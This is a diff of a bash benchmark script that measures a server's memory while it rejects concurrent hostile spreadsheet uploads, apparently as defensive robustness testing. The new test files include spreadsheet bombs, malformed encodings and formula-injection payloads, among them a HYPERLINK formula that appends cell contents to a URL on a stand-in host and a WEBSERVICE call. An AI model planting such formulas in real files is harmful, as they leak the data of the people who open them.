@@ -1,10 +1,11 @@
 #!/usr/bin/env bash
 # Upload memory benchmark (issue 12): the release server on a database without demo data; its
 # resident memory idle, after a dry run of a large members CSV (the largest a county sends:
-# just under the row limit), and while 100 hostile files are uploaded at once (spreadsheet bombs,
-# garbage, truncated and empty files), read from /proc/PID/status (VmRSS, VmHWM; the peak is
-# a fresh server for each phase). Every upload is also checked to
-# get its expected status, and /healthz to answer throughout.
+# just under the row limit, with a 家庭住址 column, about 250 MB), and while 100 hostile files
+# are uploaded at once by an `org` user (spreadsheet bombs, 10^6 columns, NUL bytes, GBK and
+# broken UTF-8, formulas, garbage, truncated and empty files), read from /proc/PID/status
+# (VmRSS, VmHWM; a fresh server for each phase). Every upload is also checked to get a 4xx,
+# and /healthz to answer throughout.
 #
 #   scripts/bench-uploads.sh            # ROWS=1040000 by default
 set -euo pipefail
@@ -25,7 +26,7 @@ done
 cargo build --release --locked -p bangfu >&2
 bin="$TARGET/release/bangfu"
 
-python3 scripts/gen-members.py "$ROWS" "$COUNTY" "$VILLAGES" "$work/members.csv" >&2
+GEN_ADDRESS=1 python3 scripts/gen-members.py "$ROWS" "$COUNTY" "$VILLAGES" "$work/members.csv" >&2
 python3 - "$work" <<'PY'
 import os, sys, zipfile, zlib
 work = sys.argv[1]
@@ -65,6 +66,19 @@ open(os.path.join(work, "truncated.xlsx"), "wb").write(good[: len(good) // 2])
 open(os.path.join(work, "garbage.xlsx"), "wb").write(bytes((i * 2654435761 >> 13) & 0xFF for i in range(50000)))
 open(os.path.join(work, "empty.csv"), "wb").write(b"")
 open(os.path.join(work, "wide.csv"), "w").write(",".join(f"c{i}" for i in range(1000)) + "\n")
+# A million columns in one header row (about 6.9 MB).
+open(os.path.join(work, "million-columns.csv"), "w").write(",".join(f"c{i}" for i in range(1_000_000)) + "\n")
+# NUL bytes inside cells; a GBK file (the encoding of older Excel exports); broken UTF-8.
+# Rows of the real template, so every cell is read, with values no project may have.
+HEAD_CSV = "项目编号,项目名称,主题,子类型,民生项目,对口关系编号,立项日期,开始日期,结束日期,状态,状态日期,预算（元）,项目地点,参与机构,项目简介\n"
+def rows(name, budget, n=2000):
+    return "".join(f"X{i},{name},教育帮扶,,是,1,2020-01-01,,,,,{budget},441621,,\n" for i in range(n))
+open(os.path.join(work, "nul-bytes.csv"), "wb").write((HEAD_CSV + rows("学\x00校", "1\x0000")).encode())
+open(os.path.join(work, "gbk.csv"), "wb").write((HEAD_CSV + rows("希望小学", "一百万")).encode("gbk"))
+open(os.path.join(work, "broken-utf8.csv"), "wb").write(HEAD_CSV.encode() + rows("P", "100").encode() + b"P1,\xff\xfe\xc3(,\xe6\x95,,,1,2020-01-01,,,,,100,441621,,\n")
+# Formulas: CSV cells that a spreadsheet would run, and XLSX cells that carry <f> formulas.
+open(os.path.join(work, "formula.csv"), "w").write(HEAD_CSV + rows('=HYPERLINK(""http://x/?""&A1)', "=1+1"))
+book("formulas.xlsx", [HEAD, b'<row r="2"><c r="A2"><f>SUM(B1:XFD1048576)</f><v>0</v></c><c r="B2" t="str"><f>WEBSERVICE("http://x")</f><v></v></c></row>'], [b'<sst><si><t>x</t></si></sst>'])
 open(os.path.join(work, "old.xls"), "wb").write(bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + bytes(4088))
 PY
 
@@ -83,6 +97,13 @@ start_server() {
 start_server
 idle=$(kb "$server" VmRSS)
 
+# The hostile uploads come from an organisation's account (role org), as an attacker would have.
+org_id=$(curl -sf -H "Authorization: Bearer $token" -H 'Content-Type: application/json' \
+  -d '{"name":"基准测试公司","kind":"enterprise"}' "http://127.0.0.1:$PORT/api/v1/organisations" |
+  python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
+"$bin" --database "$work/bench.db" user add bench-org --role org --org "$org_id" >/dev/null 2>&1
+org_token=$("$bin" --database "$work/bench.db" token create --user bench-org 2>/dev/null | tail -1)
+
 # Phase 1: the large members file, dry run (every check, nothing written).
 start=$(date +%s.%N)
 code=$(curl -s -o "$work/dry.json" -w '%{http_code}' -H "Authorization: Bearer $token" \
@@ -95,14 +116,15 @@ dry_rows=$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(d.
 # (it reads a file through before the import starts, so every byte of each file is parsed).
 start_server
 before=$(kb "$server" VmRSS)
-files=(unique-count.xlsx last-cell.xlsx unzip-bomb.xlsx strings-bomb.xlsx rows-bomb.xlsx truncated.xlsx garbage.xlsx empty.csv wide.csv old.xls)
+files=(unique-count.xlsx last-cell.xlsx unzip-bomb.xlsx strings-bomb.xlsx rows-bomb.xlsx truncated.xlsx garbage.xlsx empty.csv wide.csv old.xls
+  million-columns.csv nul-bytes.csv gbk.csv broken-utf8.csv formula.csv formulas.xlsx)
 : >"$work/codes"
 probe_fail=0
 uploads=()
 start=$(date +%s.%N)
 for i in $(seq 0 $((HOSTILE - 1))); do
   f=${files[$((i % ${#files[@]}))]}
-  (curl -s -o /dev/null -w "%{http_code} $f\n" -H "Authorization: Bearer $token" -F "file=@$work/$f" \
+  (curl -s -o /dev/null -w "%{http_code} $f\n" -H "Authorization: Bearer $org_token" -F "file=@$work/$f" \
     "http://127.0.0.1:$PORT/api/v1/imports/projects?dry_run=true" >>"$work/codes") &
   uploads+=($!)
 done
@@ -124,7 +146,7 @@ cat <<MD
 ## Uploads (issue 12)
 
 - Date: $(date -u '+%Y-%m-%d %H:%M UTC'); machine: $(nproc) cores, $(free -h | awk '/Mem:/ {print $2}') RAM, $(lscpu | grep 'Model name' | cut -d: -f2 | xargs); load average at the end: $(cut -d' ' -f1-3 /proc/loadavg); commit $(git rev-parse --short HEAD)
-- Release server, SQLite database without demo data; limits at their defaults.
+- Release server, SQLite database without demo data; limits at their defaults. Hostile uploads by a user of role \`org\` to \`POST /api/v1/imports/projects?dry_run=true\`.
 
 | what | MB |
 |---|---:|
